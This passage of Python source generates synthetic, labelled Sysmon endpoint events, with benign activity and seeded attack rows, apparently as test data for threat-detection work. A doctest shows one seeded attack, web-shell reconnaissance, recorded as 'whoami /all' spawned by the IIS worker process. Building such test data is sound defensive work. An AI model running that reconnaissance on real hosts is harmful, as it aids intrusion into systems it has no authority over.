    _, event_id, computer, body = _ATTACKS[index]
    return _header(event_id, computer, utc) | dict(body)


def generate_endpoint_events_with_labels(
    count: int, *, seed: int = 7, attacks: bool = True
) -> tuple[list[dict[str, object]], dict[int, str]]:
    """Generate Sysmon events and say which rows are seeded attacks.

    Parameters
    ----------
    count
        Number of events; at least ``len(_ATTACKS)`` (15) when ``attacks`` is true.
    seed
        Seed of the benign activity. Attack rows and their content do not depend on it.
    attacks
        Seed the attack events, spread evenly over the list.

    Returns
    -------
    tuple[list[dict[str, object]], dict[int, str]]
        The events in time order, and a map from row index to a name in
        :data:`ATTACK_KINDS`.

    Raises
    ------
    ValueError
        If ``count`` is negative, or too small to hold the attack events.

    Examples
    --------
    >>> events, labels = generate_endpoint_events_with_labels(30)
    >>> labels[1], events[1]["CommandLine"], events[1]["ParentImage"]
    ('web_shell_recon', 'whoami /all', 'C:\\\\Windows\\\\System32\\\\inetsrv\\\\w3wp.exe')
    >>> sorted(set(labels.values())) == sorted(ATTACK_KINDS)
    True
    """
    seeded = len(_ATTACKS) if attacks else 0
    if count < seeded:
        raise ValueError(f"count must be at least {seeded}, got {count}")
    # Centre each attack in an equal slice of the list: positions depend on count only.
    slots = {(2 * i + 1) * count // (2 * seeded): i for i in range(seeded)}
    rng = random.Random(seed)
    moment = _START
    events: list[dict[str, object]] = []
    labels: dict[int, str] = {}
    for row in range(count):
        moment += timedelta(milliseconds=rng.randint(20, 2500))
        utc = _utc(moment)
        attack = slots.get(row)
        if attack is not None:
            events.append(_attack_event(attack, utc))
            labels[row] = _ATTACKS[attack][0]
            continue
        event_id = rng.choices(_EVENT_IDS, weights=_EVENT_WEIGHTS)[0]
        if event_id == 1:
            events.append(_benign_process(rng, utc))
        else:
            events.append(_benign_other(rng, event_id, utc))
    return events, labels


def generate_endpoint_events(
    count: int, *, seed: int = 7, attacks: bool = True
) -> list[dict[str, object]]:
    """Generate ``count`` Sysmon events; the same arguments always give the same events.

    About 85% are process creations (EventID 1), the rest network connections (3), DNS
    queries (22), file creations (11) and registry value sets (13). See
    :func:`generate_endpoint_events_with_labels` for the rows that hold attacks.

    Examples
    --------
    >>> events = generate_endpoint_events(20, seed=3, attacks=False)
    >>> len(events), events[0]["Channel"]
    (20, 'Microsoft-Windows-Sysmon/Operational')
    >>> events == generate_endpoint_events(20, seed=3, attacks=False)
    True
    """
    return generate_endpoint_events_with_labels(count, seed=seed, attacks=attacks)[0]


def _draw(values: Sequence[int], n: int, seed: int) -> pl.Series:
    return pl.Series(values=list(values), dtype=pl.Int64).sample(
        n, with_replacement=True, seed=seed
    )


def generate_process_frame(rows: int, *, seed: int = 7) -> pl.DataFrame:
    """Build a process-creation frame for benchmarks, vectorised over rows.

    A fixed pool of benign events is rendered once, then rows are drawn from it with Polars;
    about 0.1% of rows, at random positions, are the seeded attack process creations.
    ``UtcTime`` rises row by row.

    Parameters
    ----------
    rows
        Number of rows, 0 or more.
    seed
        Seed of every draw; the same seed gives the same frame.

    Returns
    -------
    pl.DataFrame
        A frame with :data:`PROCESS_FRAME_SCHEMA`.

    Examples
    --------
    >>> frame = generate_process_frame(4, seed=1)
    >>> frame.shape, frame["EventID"].to_list()
    ((4, 15), [1, 1, 1, 1])
    >>> frame.schema == PROCESS_FRAME_SCHEMA
    True
    """
    if rows < 0:
        raise ValueError(f"rows must be 0 or more, got {rows}")
    rng = random.Random(seed)
    utc = _utc(_START)
    benign = [_benign_process(rng, utc) for _ in range(_POOL_SIZE)]
    attacks = [_attack_event(i, utc) for i, spec in enumerate(_ATTACKS) if spec[1] == 1]
    pool = pl.from_dicts(benign + attacks, schema=PROCESS_FRAME_SCHEMA)
    # One gather from a single-chunk pool: concatenating and shuffling frames is far slower.
    picks = _draw(range(_POOL_SIZE), rows, seed)
    suspicious = round(rows * _SUSPICIOUS_SHARE)
    positions = pl.int_range(0, rows, eager=True).sample(suspicious, seed=seed + 1)
    picks.scatter(positions, _draw(range(_POOL_SIZE, pool.height), suspicious, seed + 1))
    frame = pool.select(pl.all().gather(picks))
    start_ms = int(_START.timestamp() * 1000)
    elapsed_ms = _draw(range(5, 400), rows, seed + 2).cum_sum()
    return frame.with_columns(
        pl.from_epoch(pl.lit(start_ms + elapsed_ms), time_unit="ms")
        .dt.to_string("%Y-%m-%d %H:%M:%S%.3f")
        .alias("UtcTime"),
        pl.lit(_draw(range(1000, 40000, 4), rows, seed + 3)).alias("ProcessId"),
    )


def write_ndjson(events: Iterable[Mapping[str, object]], path: str | PathLike[str]) -> int:
    """Write events to ``path`` as newline-delimited JSON and return how many were written.

    Examples
    --------
    >>> import tempfile
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     write_ndjson([{"EventID": 1}, {"EventID": 3}], Path(folder) / "events.ndjson")
    2
    """
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    written = 0
    with target.open("wb") as out:
        for event in events:
            out.write(orjson.dumps(event, option=orjson.OPT_APPEND_NEWLINE))
            written += 1
    return written


def main(argv: Sequence[str] | None = None) -> int:
    """Write a sample file; ``python -m neakta.samples --help`` lists the options."""
    parser = argparse.ArgumentParser(
        prog="python -m neakta.samples",
        description="Write deterministic sample Sysmon events as NDJSON.",
    )
    parser.add_argument("--out", type=Path, required=True, help="file to write")
    parser.add_argument("--count", type=int, default=3000, help="number of events (3000)")
    parser.add_argument("--seed", type=int, default=7, help="seed of benign activity (7)")
    parser.add_argument("--no-attacks", action="store_true", help="leave out the attacks")
    args = parser.parse_args(argv)
    events = generate_endpoint_events(args.count, seed=args.seed, attacks=not args.no_attacks)
    written = write_ndjson(events, args.out)
    print(f"wrote {written} events to {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
